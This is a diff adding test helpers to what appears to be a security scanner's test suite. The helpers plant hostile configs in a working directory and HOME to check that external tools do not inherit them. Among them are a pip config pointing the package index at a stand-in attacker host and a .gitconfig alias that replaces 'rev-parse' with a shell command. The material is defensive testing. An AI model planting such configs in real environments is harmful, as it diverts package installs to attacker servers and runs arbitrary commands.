@@ -193,3 +193,57 @@ def forged_run(claim: dict[str, Any], *, success: bool | None = True, **result_e
     if success is not None:
         run["invocations"] = [{"executionSuccessful": success}]
     return run
+
+
+# --- tools run outside scanners/ (syft, pip, git): what they would inherit -----------------
+
+#: a config of the directory shiftleft runs in (and of HOME), which a tool would pick up
+SYFT_CONFIG = "exclude:\n  - '**'\nlog:\n  file: {marker}\n"
+PIP_CONFIG = "[global]\nindex-url = http://attacker.invalid/simple\n"
+
+
+def probe_tool(path: Path, probe: Path, stdout: str = "", writes: str = "") -> Path:
+    """A stand-in executable that records where and how it ran (cwd, HOME, every variable)
+    into ``probe`` as JSON, optionally writes ``writes`` (JSON) to the file after ``--report``,
+    and prints ``stdout``."""
+    path.write_text(
+        "#!" + __import__("sys").executable + "\n"
+        "import json, os, sys\n"
+        f"json.dump({{'cwd': os.getcwd(), 'env': dict(os.environ), 'argv': sys.argv}}, open({str(probe)!r}, 'w'))\n"
+        f"if {bool(writes)!r}:\n"
+        f"    open(sys.argv[sys.argv.index('--report') + 1], 'w').write({writes!r})\n"
+        f"sys.stdout.write({stdout!r})\n",
+        "utf-8",
+    )
+    path.chmod(0o755)
+    return path
+
+
+def hostile_cwd_and_home(root: Path, marker: Path) -> tuple[Path, Path]:
+    """A working directory and a HOME that each hold syft and pip configs and a git config."""
+    cwd, home = root / "cwd", root / "home"
+    for d in (cwd, home):
+        d.mkdir(parents=True)
+        _write(d, ".syft.yaml", SYFT_CONFIG.format(marker=marker))
+        _write(d, ".syft/config.yaml", SYFT_CONFIG.format(marker=marker))
+        _write(d, ".config/pip/pip.conf", PIP_CONFIG)
+        _write(d, "pip.conf", PIP_CONFIG)
+    _write(home, ".gitconfig", "[alias]\n\trev-parse = !touch " + str(marker) + "\n")
+    return cwd, home
+
+
+def git_repo(root: Path, message: str = "c") -> str:
+    """A git repository with one commit; its HEAD. Our own identity, no user config."""
+    import os
+    import subprocess
+
+    root.mkdir(parents=True, exist_ok=True)
+    _write(root, "app.py", f"print({message!r})\n")
+    env = {"PATH": os.environ.get("PATH", ""), "HOME": str(root), "GIT_CONFIG_NOSYSTEM": "1",
+           "GIT_CONFIG_GLOBAL": os.devnull}  # fmt: skip
+    git = ["git", "-c", "user.name=t", "-c", "user.email=t@example.invalid", "-C", str(root)]
+    subprocess.run([*git, "init", "-q"], check=True, env=env)
+    subprocess.run([*git, "add", "-A"], check=True, env=env)
+    subprocess.run([*git, "commit", "-q", "-m", message], check=True, env=env)
+    return subprocess.run([*git, "rev-parse", "HEAD"], check=True, env=env, capture_output=True,
+                          text=True).stdout.strip()  # fmt: skip
